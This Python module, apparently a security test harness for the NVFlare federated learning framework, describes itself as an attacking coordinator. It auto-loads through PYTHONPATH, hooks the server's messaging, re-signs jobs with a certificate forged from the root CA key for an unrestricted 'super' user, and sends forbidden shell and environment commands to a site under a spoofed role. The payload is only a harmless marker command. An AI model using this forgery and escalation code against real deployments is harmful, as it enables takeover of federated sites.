"""Attacking coordinator; Python imports this module at start if PYTHONPATH has this folder.

A job with a file `as_super` is signed again on its way to the sites, with the unrestricted role "super" and a
certificate of the federation's authority (CA). When the file ORDER appears, forbidden commands are sent to north's main
process; the replies are written to OUTCOMES.
"""

from __future__ import annotations

import io
import json
import os
import sys
import tempfile
import threading
import time
import zipfile
from pathlib import Path

MARK = "as_super"
TOPICS = ("sys.shell", "sys.report_env", "train.restart")


def usurped(message) -> None:
    """Return the changed message of a server to a site."""
    payload = getattr(message, "payload", None)
    if getattr(payload, "topic", None) == "train.deploy" and MARK.encode() in payload.body:
        payload.body = signed_by_super(payload.body)


def signed_by_super(app: bytes) -> bytes:
    from nvflare.lighter.utils import (
        Identity,
        generate_cert,
        generate_keys,
        load_crt,
        load_private_key_file,
        serialize_cert,
        sign_folders,
    )

    ca, (key, public) = Path(os.environ["CA"]), generate_keys()
    authority = {attribute.oid._name: attribute.value for attribute in load_crt(ca / "rootCA.pem").subject}
    issuer = Identity(authority["commonName"], authority.get("organizationName"))
    super_user = Identity("somebody@fco.local", "fco", "super")
    certificate = generate_cert(super_user, issuer, load_private_key_file(ca / "rootCA.key"), public)
    with tempfile.TemporaryDirectory() as place:
        folder, signer = Path(place, "app"), Path(place, "super.crt")
        signer.write_bytes(serialize_cert(certificate))
        with zipfile.ZipFile(io.BytesIO(app)) as packed:
            packed.extractall(folder)
        sign_folders(str(folder), key, str(signer))
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as packed:
            for path in sorted(folder.rglob("*")):
                packed.write(path, path.relative_to(folder))
    return made.getvalue()


def work() -> None:
    order, outcomes = Path(os.environ["ORDER"]), Path(os.environ["OUTCOMES"])
    while (cell := server_cell()) is None:
        time.sleep(0.2)
    cell.add_outgoing_request_filter("*", "*", usurped)
    while not order.exists():
        time.sleep(0.2)
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
    from nvflare.private.admin_defs import Message
    from nvflare.private.defs import new_cell_message

    replies = {}
    for topic in TOPICS:
        request = Message(topic, f"touch {order}.ran")
        request.set_header("user_role", "super")
        reply = cell.send_request("admin", topic, "north", new_cell_message({}, request), 5.0)
        replies[topic] = f"{reply.get_header(MessageHeaderKey.RETURN_CODE)}: {getattr(reply.payload, 'body', None)}"
    part = outcomes.with_suffix(".part")
    part.write_text(json.dumps(replies))
    part.replace(outcomes)


def server_cell():
    """Return the server's cell, once it exists."""
    module = sys.modules.get("nvflare.fuel.f3.cellnet.core_cell")
    return None if module is None or not hasattr(module, "CoreCell") else module.CoreCell.ALL_CELLS.get("server")


threading.Thread(target=work, daemon=True).start()
